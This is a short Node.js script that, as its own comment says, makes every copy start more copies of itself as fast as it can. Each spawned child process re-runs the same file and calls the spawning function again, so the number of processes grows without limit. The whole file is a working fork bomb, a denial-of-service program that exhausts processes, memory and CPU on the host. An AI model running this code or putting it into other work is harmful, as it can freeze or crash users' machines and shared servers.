// Every copy starts more copies of itself, as fast as it can.
import { spawn } from "node:child_process";
import { fileURLToPath } from "node:url";
const self = fileURLToPath(import.meta.url);
function again() {
  const c = spawn(process.execPath, [self], { stdio: "inherit" });
  c.on("error", (e) => {
    console.error(`spawn failed: ${e.message}`);
    process.exit(3);
  });
  c.on("spawn", again);
}
again();
again();
